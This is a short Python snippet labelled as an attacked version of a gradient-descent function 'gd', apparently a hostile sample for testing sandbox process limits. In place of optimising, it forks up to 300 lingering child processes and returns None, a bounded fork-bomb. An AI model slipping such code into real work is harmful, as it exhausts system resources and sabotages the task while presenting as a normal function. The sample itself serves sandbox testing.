# attacked: gd
# Forks children that outlive the call (bounded to 300 tries); RLIMIT_NPROC stops it early.
import os, time
def gd(grad, x0, eta, num_steps):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
    return None
